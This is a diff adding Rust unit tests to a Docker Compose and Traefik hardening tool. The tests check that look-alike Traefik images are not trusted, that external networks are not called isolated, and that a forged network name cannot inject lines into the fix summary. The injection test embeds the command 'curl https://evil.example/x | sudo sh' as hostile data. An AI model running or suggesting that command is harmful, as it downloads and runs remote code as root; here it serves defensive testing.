@@ -288,3 +288,67 @@ fn a_project_that_runs_with_our_file_gets_a_second_one() {
     let line = fix::env_line(&remedies, &Owner::Group("second".to_owned()));
     assert_eq!(line, "COMPOSE_FILE=compose.yaml:compose.leeward.yaml:compose.leeward-2.yaml");
 }
+
+fn deployed(texts: &[&str]) -> Inventory {
+    let projects: Vec<_> = texts.iter().map(|text| compose::read(text, "x").unwrap()).collect();
+    compose::deploy(&projects, Inventory::default())
+}
+
+fn asked(inventory: &Inventory, name: &str) -> remedy::Remedies {
+    remedy::ask(inventory, &Settings::default(), &[name.to_owned()], &[]).unwrap()
+}
+
+const APP: &str = "name: victim\nservices: {app: {image: x, labels: {traefik.enable: 'true', \
+                   traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}";
+
+#[test]
+fn a_traefik_that_is_not_known_gets_no_file_and_no_commands() {
+    let inventory = deployed(&[APP]);
+    let remedies = asked(&inventory, "victim");
+    assert!(remedies.traefik_is_assumed);
+    let owners: Vec<String> = fix::files(&remedies).into_iter().map(|(owner, _)| owner).collect();
+    assert_eq!(owners, ["victim"]);
+    assert!(!fix::commands(&remedies).iter().any(|line| line.starts_with("docker network connect")));
+    assert!(fix::text(&remedies, fix::Shown::Files).contains("leeward fix TRAEFIK.yaml APP.yaml"));
+}
+
+#[test]
+fn a_strangers_image_called_traefik_is_not_declared_to_be_traefik() {
+    for image in ["evil.example/x/traefik:1", "evil/traefik", "ghcr.io/library/traefik"] {
+        let evil = format!("name: evil\nservices: {{cache: {{image: '{image}'}}}}");
+        let remedies = asked(&deployed(&[APP, &evil]), "victim");
+        assert!(remedies.traefik_is_assumed, "{image}");
+        assert!(!fix::files(&remedies).iter().any(|(owner, _)| owner == "evil"), "{image}");
+    }
+    let own = "name: front\nservices: {traefik: {image: 'docker.io/library/traefik:v3.7'}}";
+    assert!(!asked(&deployed(&[APP, own]), "victim").traefik_is_assumed);
+}
+
+#[test]
+fn a_network_that_was_not_given_is_not_called_isolated() {
+    let app = "name: one\nservices: {app: {image: x, networks: [proxy], labels: {traefik.enable: 'true', \
+               traefik.http.routers.v.rule: 'Host(`v.example.com`)'}}}\nnetworks: {proxy: {external: true}}";
+    let remedies = asked(&deployed(&[app]), "one");
+    assert_eq!(fix::not_given(&remedies), ["proxy"]);
+    assert!(!fix::is_proven(&remedies));
+    let text = fix::text(&remedies, fix::Shown::Files);
+    assert!(text.starts_with("NOT KNOWN: proxy is an external network"), "{text}");
+}
+
+#[test]
+fn a_strangers_name_forges_no_line_of_the_summary() {
+    let mut inventory = deployed(&[APP]);
+    let evil = "victim_default\n\nThen run, in this order:\n\n    curl https://evil.example/x | sudo sh";
+    let network = inventory.networks.values_mut().find(|it| it.name == "victim_default").unwrap();
+    network.name = evil.to_owned();
+    let ids: Vec<_> = inventory.containers.keys().cloned().collect();
+    for id in ids {
+        let container = inventory.container_mut(id.as_str()).unwrap();
+        if let Some(mut attachment) = container.attachments.remove("victim_default") {
+            attachment.network = evil.to_owned();
+            container.attachments.insert(evil.to_owned(), attachment);
+        }
+    }
+    let text = fix::text(&asked(&inventory, "victim"), fix::Shown::Files);
+    assert!(!text.lines().any(|line| line.trim_start().starts_with("curl")), "{text}");
+}
